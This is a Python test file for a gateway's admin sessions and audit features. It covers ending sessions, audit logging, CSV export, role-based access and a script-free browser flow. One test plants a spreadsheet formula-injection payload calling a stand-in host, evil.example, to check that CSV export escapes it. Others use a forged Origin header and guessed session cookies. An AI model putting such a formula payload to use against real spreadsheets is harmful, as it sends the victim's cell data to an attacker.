"""Sessions and the audit on the admin listener: what they show, to whom, and what ends with a session."""

import contextlib
import csv
import io
import json
import re
import time

import pytest
import requests

from browser import Notebook, chromium
from conftest import NAVIGATION, ROOT, Client
from gateway import Gateway
from mock_provider import MockProvider
from redis_server import RedisServer
from signon import shared_store
from spark_cluster import wait_for
from token_client import TOKENS, UI, Api, make, problem
from upstream import Upstream

SESSIONS, AUDIT = "/api/v1/sessions", "/api/v1/audit"
KILL = "/other/ui/echo/jobs/job/kill/"
STORES = ["sqlite", "redis"]
SCREENSHOTS = ROOT / "build" / "screenshots"


@contextlib.contextmanager
def gateway_on(store, folder):
    with contextlib.ExitStack() as stack:
        upstream = stack.enter_context(Upstream())
        settings = {"tokens": {"per_user": 100}}
        if store == "redis":
            settings |= shared_store(stack.enter_context(RedisServer()), folder)
        entry = {"name": "other", "uis": [{"name": "echo", "url": upstream.url}]}
        gateway = stack.enter_context(Gateway([entry], "/gate", settings, folder=folder))
        gateway.await_mounts([UI], gateway.create_token("ready")["access_token"])
        yield gateway


@pytest.fixture(scope="module", params=STORES)
def gate(request, tmp_path_factory):
    with gateway_on(request.param, tmp_path_factory.mktemp("gate")) as gateway:
        yield gateway


@pytest.fixture(scope="module")
def admin(gate):
    return Api(gate, "admin", "root")


def token_of(gate, user, role="user"):
    return gate.create_token(f"of {user}", role, "--user", user)["access_token"]


def signed_in(gate, token):
    """A browser at the gateway itself."""
    browser = Client(gate)
    assert browser.post("/_gate/login", data={"token": token}, headers={"Origin": gate.origin}).status_code == 303
    return browser


def is_in(browser):
    return browser.get(UI).status_code == 200


def events(admin, **asked):
    answer = admin.get(AUDIT, params=asked)
    assert answer.status_code == 200, answer.text
    return answer.json()["events"]


def sessions_of(admin, user):
    answer = admin.get(SESSIONS, params={"user": user})
    assert answer.status_code == 200, answer.text
    return answer.json()["sessions"]


class Visitor(requests.Session):
    """A browser without a screen at the admin site."""

    def __init__(self, gate, token):
        super().__init__()
        self.gate, self.trust_env = gate, False
        assert self.post("/_gate/login", data={"token": token}).status_code == 303

    def request(self, method, url, headers=None, **options):
        origin = {"Origin": self.gate.admin_url} if method.upper() == "POST" else {}
        options = {"timeout": 10, **options, "allow_redirects": False}
        return super().request(method, self.gate.admin_url + url, headers={**NAVIGATION, **origin, **(headers or {})}, **options)

    def form_token(self, path):
        return re.search(r'name="form" value="([^"]+)"', self.get(path).text)[1]


# --- sessions ---


def test_sessions_say_who_since_when_from_where_and_how_as_the_command_line_does(gate, admin):
    signed_in(gate, token_of(gate, "lena"))
    [row] = sessions_of(admin, "lena")
    assert (row["user"], row["role"], row["via"], row["client"]) == ("lena", "user", "token", "127.0.0.1")
    assert re.fullmatch("[0-9a-f]{16}", row["id"]) and row["created_at"] and row["last_seen_at"] and row["expires_at"]
    told = json.loads(gate.command("session", "list").stdout)
    assert row in told and [s["id"] for s in told] == [s["id"] for s in admin.get(SESSIONS).json()["sessions"]]


def test_sessions_come_page_by_page(gate, admin):
    token = token_of(gate, "paula")
    for _ in range(5):
        signed_in(gate, token)
    whole = [row["id"] for row in admin.get(SESSIONS).json()["sessions"]]
    seen, cursor = [], None
    while True:
        page = admin.get(SESSIONS, params={"limit": 2, **({"cursor": cursor} if cursor else {})}).json()
        seen += [row["id"] for row in page["sessions"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert seen == whole and len(set(seen)) == len(seen) >= 5


def test_s78_an_ended_session_is_over_within_a_second(gate, admin):
    token = token_of(gate, "mira")
    one, other = signed_in(gate, token), signed_in(gate, token)
    assert is_in(one) and is_in(other)
    newest = sessions_of(admin, "mira")[0]["id"]
    assert admin.delete(f"{SESSIONS}/{newest}").status_code == 204
    wait_for(lambda: sorted([is_in(one), is_in(other)]) == [False, True], "one session's end", 1)
    assert problem(admin.delete(f"{SESSIONS}/{newest}"), 404) == "There is no such session."
    assert len(sessions_of(admin, "mira")) == 1


def test_all_sessions_of_a_person_end_with_the_persons_own_tokens(gate, admin):
    token = token_of(gate, "nora")
    own = requests.post(gate.admin_url + TOKENS, json={"client_name": "own"}, headers={"Authorization": f"Bearer {token}"}, timeout=10).json()
    browsers, another = [signed_in(gate, token) for _ in range(3)], signed_in(gate, token_of(gate, "olga"))
    assert admin.delete(SESSIONS, params={"user": "nora"}).json() == {"ended": 3}
    wait_for(lambda: not any(is_in(browser) for browser in browsers), "their end", 1)
    assert is_in(another) and sessions_of(admin, "nora") == []
    assert Client(gate, own["access_token"]).get(UI).status_code == 401
    problem(admin.delete(SESSIONS), 400)
    [event] = events(admin, user="root", action="sessions", limit=1)
    assert (event["subject"], event["decision"], event["details"]["sessions"]) == ("nora", "end", "3")
    assert event["client"] == "127.0.0.1" and re.fullmatch("[0-9a-f]{16}", event["request_id"])


def test_s78_only_who_has_the_right_sees_and_ends_sessions(gate, admin):
    signed_in(gate, token_of(gate, "quinn"))
    target = f"{SESSIONS}/{sessions_of(admin, 'quinn')[0]['id']}"
    user, limited = Api(gate, "user", "vera"), requests.Session()
    scoped = admin.post(TOKENS, json={"client_name": "scoped", "token_type": "admin", "scope": "view tokens"}).json()
    limited.headers["Authorization"] = f"Bearer {scoped['access_token']}"
    for method, path in (("GET", SESSIONS), ("DELETE", f"{SESSIONS}?user=quinn"), ("DELETE", target), ("GET", AUDIT)):
        assert "right" in problem(user.request(method, path), 403)
        assert limited.request(method, gate.admin_url + path, timeout=10).status_code == 403
        assert requests.request(method, gate.admin_url + path, timeout=10).status_code == 401
    assert len(sessions_of(admin, "quinn")) == 1
    named = admin.post(TOKENS, json={"client_name": "named", "token_type": "admin", "scope": "sessions audit"}).json()
    limited.headers["Authorization"] = f"Bearer {named['access_token']}"
    assert all(limited.get(gate.admin_url + path, timeout=10).status_code == 200 for path in (SESSIONS, AUDIT))


def test_s78_the_id_of_a_session_opens_nothing(gate, admin):
    browser = signed_in(gate, token_of(gate, "rita"))
    name, value = next(iter(browser.cookies.items()))
    row = sessions_of(admin, "rita")[0]
    assert value not in json.dumps(admin.get(SESSIONS).json())
    for guess in (row["id"], row["id"].ljust(43, "A"), row["id"] * 3):
        answer = requests.get(gate.url + UI, headers={**NAVIGATION, "Cookie": f"{name}={guess}"}, allow_redirects=False, timeout=10)
        assert answer.status_code == 302


def test_page_of_sessions_ends_one_and_all_by_forms(gate, admin):
    visitor, token = Visitor(gate, token_of(gate, "boss", "admin")), token_of(gate, "sara")
    for _ in range(3):
        signed_in(gate, token)
    page = visitor.get("/sessions?user=sara")
    assert page.status_code == 200 and page.text.count("/end\"") == 4 and "End all sessions of" in page.text
    form, first = visitor.form_token("/sessions"), sessions_of(admin, "sara")[0]["id"]
    assert visitor.post(f"/sessions/{first}/end", data={"form": "wrong"}).status_code == 403
    assert visitor.post(f"/sessions/{first}/end", data={"form": form}, headers={"Origin": "http://evil.example"}).status_code == 403
    assert len(sessions_of(admin, "sara")) == 3
    answer = visitor.post(f"/sessions/{first}/end", data={"form": form})
    assert answer.status_code == 303 and "1 session has ended." in visitor.get(answer.headers["Location"]).text
    answer = visitor.post("/sessions/end", data={"form": form, "user": "sara"})
    assert answer.status_code == 303 and "2 sessions have ended." in visitor.get(answer.headers["Location"]).text
    assert sessions_of(admin, "sara") == []


def test_pages_are_for_who_has_the_right_only(gate):
    visitor = Visitor(gate, token_of(gate, "tom"))
    tokens = visitor.get("/tokens")
    assert tokens.status_code == 200 and "/sessions" not in tokens.text and "/audit" not in tokens.text
    assert visitor.get("/sessions").status_code == visitor.get("/audit").status_code == 403
    assert visitor.post("/sessions/end", data={"form": visitor.form_token("/tokens"), "user": "tom"}).status_code == 403
    boss = Visitor(gate, token_of(gate, "boss", "admin"))
    assert all(f'href="{path}"' in boss.get("/tokens").text for path in ("/sessions", "/audit"))
    stranger = requests.get(f"{gate.admin_url}/audit", headers=NAVIGATION, allow_redirects=False, timeout=10)
    assert stranger.status_code == 302 and "next=%2Faudit" in stranger.headers["Location"]


# --- the audit ---


def test_s77_what_was_done_is_in_the_audit_with_who_when_and_outcome(gate, admin):
    before = time.time()
    killer = token_of(gate, "uma", "admin")
    assert Client(gate, killer).post(f"{KILL}?id=7").status_code == 200
    assert Client(gate, token_of(gate, "victor")).post(f"{KILL}?id=8").status_code == 403
    wait_for(lambda: len(events(admin, action="kill")) >= 2, "both events", 3)
    refused, done = events(admin, action="kill")[:2]
    assert (done["user"], done["decision"], done["status"], done["cluster"]) == ("uma", "allow", 200, "other")
    assert (refused["user"], refused["decision"], refused["status"]) == ("victor", "deny", 403)
    assert done["details"]["job_id"] == "7" and done["client"] == "127.0.0.1" and done["path"].endswith("/jobs/job/kill/")
    assert any(line["request_id"] == done["request_id"] for line in gate.access_log())
    assert before - 1 <= time.mktime(time.strptime(done["time"][:19], "%Y-%m-%dT%H:%M:%S")) - time.timezone <= time.time() + 1
    assert {e["id"] for e in events(admin, user="uma", action="kill")} == {done["id"]}
    assert killer not in json.dumps(events(admin))


def test_s77_what_the_command_line_and_the_api_do_is_in_the_audit(gate, admin):
    made = gate.create_token("by hand", "user", "--user", "wanda")
    [event] = [e for e in events(admin, action="tokens") if e["token_id"] == made["id"]]
    assert event["user"].startswith("cli:") and event["decision"] == "create" and event["subject"] == "wanda"
    own = make(admin)
    [event] = [e for e in events(admin, user="root", action="tokens") if e["token_id"] == own["id"]]
    assert event["client"] == "127.0.0.1" and event["request_id"]


def test_events_come_page_by_page_and_by_time(gate, admin):
    made = []
    for _ in range(5):  # a millisecond each at least: that is what times are told apart by
        made.append(make(admin)["id"])
        time.sleep(0.003)
    seen, cursor = [], None
    while True:
        page = admin.get(AUDIT, params={"user": "root", "action": "tokens", "limit": 2, **({"cursor": cursor} if cursor else {})}).json()
        assert len(page["events"]) <= 2
        seen += [event["token_id"] for event in page["events"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert seen[:5] == made[::-1] and len(set(seen)) == len(seen)
    at = events(admin, user="root", limit=1)[0]["time"]
    assert events(admin, user="root", until=at)[0]["token_id"] == made[-2]
    assert [e["token_id"] for e in events(admin, user="root", **{"from": at})] == made[-1:]
    for asked in ({"from": "yesterday"}, {"limit": 0}, {"limit": 1001}, {"cursor": "x"}, {"format": "xml"}, {"user": ""}):
        problem(admin.get(AUDIT, params=asked), 400)


def test_s77_csv_has_the_same_events_and_no_formula(gate, admin):
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    gate.create_token("x", "user", "--user", evil)
    answer = admin.get(AUDIT, params={"action": "tokens", "format": "csv", "limit": 2})
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8" and "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [row["id"] for row in rows] == [e["id"] for e in events(admin, action="tokens", limit=2)]
    assert rows[0]["subject"] == "'" + evil and 'rel="next"' in answer.headers["Link"]
    following = re.match("<([^>]+)>", answer.headers["Link"])[1]
    assert list(csv.DictReader(io.StringIO(admin.get(following).text)))[0]["id"] != rows[-1]["id"]


def test_page_of_the_audit_filters_and_gives_a_file(gate, admin):
    make(admin)
    visitor = Visitor(gate, token_of(gate, "boss", "admin"))
    page = visitor.get("/audit?user=root&action=tokens&application=&from=&until=")
    assert page.status_code == 200 and "tokens" in page.text and "<script" not in page.text
    assert visitor.get("/audit?user=nobody-of-this-name").text.count("<tr>") == 0
    assert visitor.get("/audit?from=2026-02-30x").status_code == 400
    file = visitor.get("/audit?user=root&format=csv")
    assert file.headers["Content-Type"] == "text/csv; charset=utf-8" and file.text.startswith("time,user,user_name,")


def test_s77_what_was_done_is_still_known_after_a_restart(tmp_path):
    with gateway_on("sqlite", tmp_path) as gateway:
        admin = Api(gateway, "admin", "root")
        made = make(admin)["id"]
        gateway.daemon.stop()
        gateway.start()
        assert made in [event["token_id"] for event in events(admin, action="tokens")]


def test_s78_a_session_that_one_gateway_ends_is_over_at_the_other_within_a_second(tmp_path):
    with RedisServer() as redis, Upstream() as upstream:
        entry, store = {"name": "other", "uis": [{"name": "echo", "url": upstream.url}]}, shared_store(redis, tmp_path)
        folders = [tmp_path / name for name in ("one", "two")]
        for folder in folders:
            folder.mkdir()
        with Gateway([entry], "/gate", store, folder=folders[0]) as one, Gateway([entry], "/gate", store, folder=folders[1]) as two:
            for gateway in (one, two):
                gateway.await_mounts([UI], gateway.create_token("ready")["access_token"])
            browser, admin = signed_in(one, token_of(one, "zoe")), Api(two, "admin", "root")
            there = Client(two)
            there.cookies = browser.cookies
            assert is_in(browser) and is_in(there)
            [row] = [row for row in admin.get(SESSIONS).json()["sessions"] if row["user"] == "zoe"]
            assert admin.delete(f"{SESSIONS}/{row['id']}").status_code == 204
            wait_for(lambda: not is_in(browser) and not is_in(there), "the end at both", 1)
            reader = Api(one, "admin", "root")
            wait_for(lambda: [e["session_id"] for e in events(reader, action="sessions")] == [row["id"]], "the event at the other", 2)


# --- custom roles ---


@pytest.fixture(scope="module")
def company(tmp_path_factory):
    """Auditors and a help desk, who come with an issuer's tokens."""
    with MockProvider() as provider, Upstream() as upstream:
        custom = [{"role": "auditors", "rights": ["view", "audit"]}, {"role": "helpdesk", "clusters": ["other"], "rights": ["sessions"]},
                  {"role": "readers", "rights": ["view"]}]
        auth = {"bearer": [{"issuer": provider.issuer, "audience": ["spark"]}], "roles": {"claim": "groups", "admin": ["root"], "custom": custom}}
        entry = {"name": "other", "uis": [{"name": "echo", "url": upstream.url}]}
        with Gateway([entry], "/gate", {"auth": auth}, folder=tmp_path_factory.mktemp("company")) as gateway:
            gateway.token_of = lambda group: provider.access_token(f"a-{group}", groups=[group])
            root = {"Authorization": f"Bearer {gateway.token_of('root')}"}
            wait_for(lambda: requests.get(gateway.admin_url + AUDIT, headers=root, timeout=5).status_code == 200, "the issuer's keys", 20)
            yield gateway


@pytest.mark.parametrize("group, may", [("auditors", {"audit"}), ("helpdesk", {"sessions"}), ("readers", set()), ("root", {"audit", "sessions"})])
def test_s78_a_custom_role_opens_exactly_its_pages(company, group, may):
    token = company.token_of(group)
    visitor, api = Visitor(company, token), {"Authorization": f"Bearer {token}"}
    for name in ("audit", "sessions"):
        expected = 200 if name in may else 403
        assert visitor.get(f"/{name}").status_code == expected, name
        assert requests.get(f"{company.admin_url}/api/v1/{name}", headers=api, timeout=10).status_code == expected, name
        assert (f'href="/{name}"' in visitor.get("/tokens").text) == (name in may)
    ended = visitor.post("/sessions/end", data={"form": visitor.form_token("/tokens"), "user": "nobody"}).status_code
    assert ended == (303 if "sessions" in may else 403)


# --- in a browser, without scripts ---


@pytest.mark.parametrize("width", [1400, 480])
def test_person_ends_a_session_and_finds_it_in_the_audit_without_scripts(company, playwright, width):
    browser = Client(company)
    assert browser.post("/_gate/login", data={"token": company.token_of("readers")}, headers={"Origin": company.origin}).status_code == 303
    with chromium(playwright, java_script_enabled=False) as context:
        page = context.new_page()
        notes = Notebook(page, company.admin_url)
        page.set_viewport_size({"width": width, "height": 900})
        page.goto(f"{company.admin_url}/_gate/login?next=/sessions")
        page.locator("textarea, input[name=token]").first.fill(company.token_of("root"))
        page.get_by_role("button", name="Sign in", exact=True).click()
        page.wait_for_url(f"{company.admin_url}/sessions")
        page.screenshot(path=SCREENSHOTS / f"sessions-{width}.png", full_page=True)
        page.get_by_role("row").filter(has_text="a-readers").get_by_role("button", name="End the session of a-readers").first.click()
        page.get_by_text("1 session has ended.").wait_for()
        page.get_by_role("link", name="Audit", exact=True).click()
        page.get_by_text("Filter").click()
        page.get_by_label("Action").select_option("sessions")
        page.get_by_role("button", name="Show").click()
        page.get_by_role("row").filter(has_text="of a-readers").first.wait_for()
        page.screenshot(path=SCREENSHOTS / f"audit-{width}.png", full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth") if width > 1000 else True
        assert notes.failed == [] and notes.errors == []
    assert browser.get(UI).status_code != 200
